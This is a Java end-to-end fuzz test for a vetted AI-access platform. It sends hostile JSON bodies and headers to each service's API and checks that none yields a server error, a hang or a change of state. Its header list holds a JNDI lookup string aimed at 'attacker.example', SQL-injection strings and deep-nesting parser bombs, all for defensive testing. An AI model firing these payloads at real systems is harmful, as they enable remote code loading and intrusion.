package org.vettedaccess.e2e.security;

import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.quicktheories.QuickTheory.qt;
import static org.quicktheories.generators.SourceDSL.booleans;
import static org.quicktheories.generators.SourceDSL.doubles;
import static org.quicktheories.generators.SourceDSL.integers;
import static org.quicktheories.generators.SourceDSL.lists;
import static org.quicktheories.generators.SourceDSL.longs;
import static org.quicktheories.generators.SourceDSL.strings;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.restassured.response.Response;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.quicktheories.core.Gen;
import org.quicktheories.generators.Generate;
import org.vettedaccess.e2e.support.Hostile;
import org.vettedaccess.e2e.support.Keycloak;
import org.vettedaccess.e2e.support.RoleMatrix;
import org.vettedaccess.e2e.support.RunningSuite;
import org.vettedaccess.suite.LocalSuite;

/**
 * Hostile input for every operation that takes a JSON body, in every service (found through the OpenAPI, as an
 * allowed caller from the authorisation matrix), and for the headers: wrong types, deep nesting, huge values,
 * control characters, Unicode confusables and bidi overrides, SQL, JNDI and template injection strings, broken
 * JSON. Generated with QuickTheories (a property-based library, which also shrinks a failing body). Every answer must come within the timeout and never be a 5xx, and
 * requests that were refused must leave the ledger, the grants and the applications as they were.
 */
@ExtendWith(RunningSuite.class)
class FuzzTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final int BODIES_PER_OPERATION = 30;

    /** Field names the services use, so hostile values reach their validation rather than stopping at the door. */
    private static final List<String> FIELDS = List.of(
            "subject",
            "model",
            "models",
            "endpoint",
            "maxTokens",
            "grantId",
            "entries",
            "idempotencyKey",
            "type",
            "entry",
            "decision",
            "reason",
            "code",
            "scope",
            "value",
            "legalName",
            "email",
            "institutionalEmail",
            "orcid",
            "rorId",
            "country",
            "requestedTier",
            "requestedModels",
            "tier",
            "purpose",
            "validUntil",
            "validFrom",
            "name",
            "expiresInDays",
            "displayName",
            "legalBasis",
            "disclosedTo",
            "messages",
            "prompt",
            "input",
            "max_tokens",
            "stream",
            "n",
            "status",
            "assuranceLevel",
            "approvedTier",
            "kycLeaf",
            "trainingFlop",
            "evalFlags",
            "upstreamRoute",
            "rpm",
            "termsAccepted",
            "termsVersion");

    private static Gen<JsonNode> leaf() {
        return Generate.oneOf(
                Hostile.text().map(text -> (JsonNode) NODES.textNode(text)),
                longs().all().map(n -> (JsonNode) NODES.numberNode(n)),
                doubles().any().map(n -> (JsonNode) NODES.numberNode(n)),
                booleans().all().map(b -> (JsonNode) NODES.booleanNode(b)),
                Generate.constant((JsonNode) NODES.nullNode()),
                Generate.constant((JsonNode) NODES.arrayNode()),
                Generate.constant((JsonNode) NODES.objectNode()));
    }

    private static Gen<JsonNode> value() {
        Gen<JsonNode> arrays = lists().of(leaf()).ofSizeBetween(0, 5).map(items -> {
            ArrayNode array = NODES.arrayNode();
            items.forEach(array::add);
            return (JsonNode) array;
        });
        return leaf().mix(arrays, 20);
    }

    /** An object with some of the services' field names, each holding a hostile value. */
    private static Gen<String> objects() {
        Gen<Map.Entry<String, JsonNode>> fields = Generate.pick(FIELDS).zip(value(), Map::entry);
        return lists().of(fields).ofSizeBetween(1, 8).map(entries -> {
            ObjectNode object = NODES.objectNode();
            entries.forEach(entry -> object.set(entry.getKey(), entry.getValue()));
            return object.toString();
        });
    }

    /** Not JSON, or JSON no parser should be made to work hard on. */
    private static Gen<String> broken() {
        return Generate.oneOf(
                Generate.pick(List.of("{", "[", "\"", "nul", "{\"a\":", "}{", "{\"a\":1,}", "\u0000", "", "[[[[[]")),
                integers().between(1_000, 200_000).map(depth -> "[".repeat(depth) + "]".repeat(depth)),
                integers().between(1_000, 50_000).map(depth -> "{\"a\":".repeat(depth) + "1" + "}".repeat(depth)),
                strings().allPossible().ofLengthBetween(0, 200),
                Generate.pick(Hostile.STRINGS).map(text -> "\"" + text + "\""),
                longs().all().map((Long n) -> String.valueOf(n)));
    }

    /** Two in three bodies are objects with hostile values, one in three is broken. */
    private static Gen<String> bodies() {
        return objects().mix(broken(), 35);
    }

    /** Found by the fuzzing: a NUL character reached PostgreSQL, which refused it, and the caller got a 500. */
    @Test
    void aNulCharacterIsARefusalNotAServerError(LocalSuite suite, Keycloak keycloak) {
        RoleMatrix matrix = new RoleMatrix(keycloak);
        Response response = given().auth()
                .oauth2(matrix.token("sa:gateway"))
                .contentType("application/json")
                .body("{\"subject\":\"alice\\u0000\"}")
                .post(suite.serviceUrl("access-policy") + "/api/v1/decisions/entitlements");
        assertEquals(400, response.statusCode(), response.asString());
        assertEquals("urn:vetted-access:problem:invalid-request", response.path("type"));
    }

    @Test
    void hostileBodiesNeverCauseAServerErrorAHangOrAChange(LocalSuite suite, Keycloak keycloak) throws IOException {
        RoleMatrix matrix = new RoleMatrix(keycloak);
        State before = State.read(suite, matrix);
        List<String> failures = new ArrayList<>();
        Map<String, Integer> accepted = new java.util.HashMap<>();
        int requests = 0;
        for (String service : Keycloak.SERVICES) {
            JsonNode paths = JSON.readTree(given().get(suite.serviceUrl(service) + "/q/openapi?format=json")
                            .asString())
                    .path("paths");
            for (Iterator<Map.Entry<String, JsonNode>> it = paths.fields(); it.hasNext(); ) {
                Map.Entry<String, JsonNode> path = it.next();
                if (path.getKey().startsWith("/portal")) {
                    continue; // forms with CSRF and a browser session: covered by the portal's tests
                }
                for (String method : List.of("post", "put")) {
                    JsonNode operation = path.getValue().path(method);
                    if (operation.isMissingNode()) {
                        continue;
                    }
                    String caller = callerFor(service, method.toUpperCase(), path.getKey());
                    String url = suite.serviceUrl(service)
                            + path.getKey()
                                    .replaceAll("\\{tier}", "9")
                                    .replaceAll("\\{[^}/]+}", UUID.randomUUID().toString());
                    String key = service + " " + method.toUpperCase() + " " + path.getKey();
                    String token = matrix.token(caller);
                    // A property: no hostile body gets a 5xx or no answer. QuickTheories shrinks a failing body.
                    try {
                        qt().withExamples(BODIES_PER_OPERATION)
                                .withShrinkCycles(20)
                                .forAll(bodies())
                                .checkAssert(body -> {
                                    String outcome = send(method.toUpperCase(), url, token, body);
                                    if (ACCEPTED.equals(outcome)) {
                                        accepted.merge(key, 1, Integer::sum);
                                    } else if (outcome != null) {
                                        throw new AssertionError(outcome + " for " + abbreviate(body));
                                    }
                                });
                    } catch (AssertionError e) {
                        failures.add(key + " as " + caller + ": " + e.getMessage());
                    }
                    requests += BODIES_PER_OPERATION;
                }
            }
        }
        requests += hostileHeaders(suite, matrix, failures);
        assertTrue(
                failures.isEmpty(),
                failures.size() + " of " + requests + " hostile requests failed:\n"
                        + String.join("\n", failures.subList(0, Math.min(40, failures.size()))));
        assertTrue(requests > 800, "only " + requests + " hostile requests");
        // Refused requests change nothing: what changed is exactly what the accepted (valid) ones made.
        State after = State.read(suite, matrix);
        assertEquals(
                before.victorsApplications() + accepted.getOrDefault("kyc-service POST /api/v1/applications", 0),
                after.victorsApplications(),
                "victor's applications; accepted: " + accepted);
        assertEquals(
                before.victorsKeys() + accepted.getOrDefault("gateway POST /api/v1/keys", 0),
                after.victorsKeys(),
                "victor's API keys; accepted: " + accepted);
        assertEquals(
                before.killSwitches() + accepted.getOrDefault("access-policy POST /api/v1/killswitches", 0),
                after.killSwitches(),
                "kill switches; accepted: " + accepted);
        assertEquals(
                before.models() + accepted.getOrDefault("access-policy PUT /api/v1/models/{id}", 0),
                after.models(),
                "catalog and its change requests; accepted: " + accepted);
        assertEquals(0, accepted.getOrDefault("usage-ledger POST /api/v1/entries", 0), "hostile ledger entries taken");
    }

    /** Oversized, malformed and injected headers on every service's API. */
    private static int hostileHeaders(LocalSuite suite, RoleMatrix matrix, List<String> failures) {
        int requests = 0;
        List<Map<String, String>> headerSets = List.of(
                Map.of("Authorization", "Bearer " + "a".repeat(20_000)),
                Map.of("Authorization", "Bearer " + matrix.token("alice") + "x"),
                Map.of("Authorization", "Basic YWxpY2U6YWxpY2UtZGVtbw=="),
                Map.of("Authorization", "Bearer"),
                Map.of("Authorization", "Bearer va-" + "' OR 1=1 --".replace(" ", "")),
                Map.of("Content-Type", "application/json; charset=ebcdic"),
                Map.of("Accept", "text/\u0430html"),
                Map.of("X-Request-Id", "${jndi:ldap://attacker.example/a}"),
                Map.of("traceparent", "00-" + "f".repeat(32) + "-" + "0".repeat(16) + "-ff"),
                Map.of("X-Forwarded-For", "127.0.0.1, ' OR 1=1 --"));
        for (String service : Keycloak.SERVICES) {
            for (String path : List.of("/api/v1/caller", service.equals("gateway") ? "/v1/models" : "/api/v1/caller")) {
                for (Map<String, String> headers : headerSets) {
                    requests++;
                    try {
                        Response response = given().config(Hostile.TIMEOUTS)
                                .headers(headers)
                                .get(suite.serviceUrl(service) + path);
                        if (response.statusCode() >= 500) {
                            failures.add(service + " GET " + path + " with " + headers.keySet() + ": "
                                    + response.statusCode());
                        }
                    } catch (RuntimeException e) {
                        failures.add(service + " GET " + path + " with " + headers.keySet() + ": " + e);
                    }
                }
            }
        }
        return requests;
    }

    private static final String ACCEPTED = "accepted";

    /** Null for a refusal (4xx), {@link #ACCEPTED} for a 2xx, else what went wrong. */
    private static String send(String method, String url, String token, String body) {
        try {
            var request = given().config(Hostile.TIMEOUTS)
                    .contentType("application/json")
                    .body(body.getBytes(StandardCharsets.UTF_8));
            if (token != null) {
                request = request.auth().oauth2(token);
            }
            Response response = request.request(method, url);
            if (response.statusCode() >= 500) {
                return "status " + response.statusCode() + " " + abbreviate(response.asString());
            }
            return response.statusCode() < 300 ? ACCEPTED : null;
        } catch (RuntimeException e) {
            return "no answer (" + e.getClass().getSimpleName() + ": " + e.getMessage() + ")";
        }
    }

    /** An allowed caller for the operation that changes nothing others rely on (never alice). */
    private static String callerFor(String service, String method, String path) {
        if (path.startsWith("/v1")
                || path.startsWith("/api/v1/keys")
                || path.startsWith("/api/v1/applications")
                        && !path.endsWith("/claim")
                        && !path.endsWith("/decide")
                        && !path.endsWith("/conflict")) {
            return "victor";
        }
        if (path.startsWith("/api/v1/applications") || path.startsWith("/api/v1/rescreen")) {
            return "rita";
        }
        if (service.equals("usage-ledger") && path.equals("/api/v1/entries")) {
            return "sa:gateway";
        }
        if (path.startsWith("/api/v1/decisions")) {
            return "sa:gateway";
        }
        if (path.startsWith("/api/v1/kyc-outcomes")) {
            return "sa:kyc-service";
        }
        if (path.startsWith("/api/v1/checkpoints")) {
            return "greg";
        }
        return "paula";
    }

    private static String abbreviate(String text) {
        String flat = text.replaceAll("\\p{Cntrl}", "?");
        return flat.length() > 120 ? flat.substring(0, 120) + "… (" + text.length() + " chars)" : flat;
    }

    /** What an accepted request could have changed, to tell it from what a refused one must not. */
    private record State(int victorsApplications, int victorsKeys, int killSwitches, int models) {

        static State read(LocalSuite suite, RoleMatrix matrix) {
            return new State(
                    count(suite.serviceUrl("kyc-service") + "/api/v1/applications", matrix.token("victor")),
                    count(suite.serviceUrl("gateway") + "/api/v1/keys", matrix.token("victor")),
                    count(suite.serviceUrl("access-policy") + "/api/v1/killswitches", matrix.token("paula")),
                    // A valid body for a new model is a pending change request (it waits for a second admin).
                    count(suite.serviceUrl("access-policy") + "/api/v1/models", matrix.token("paula"))
                            + count(
                                    suite.serviceUrl("access-policy") + "/api/v1/change-requests",
                                    matrix.token("paula")));
        }

        private static int count(String url, String token) {
            Response response = given().auth().oauth2(token).get(url);
            response.then().statusCode(200);
            return response.jsonPath().getList("$").size();
        }
    }
}
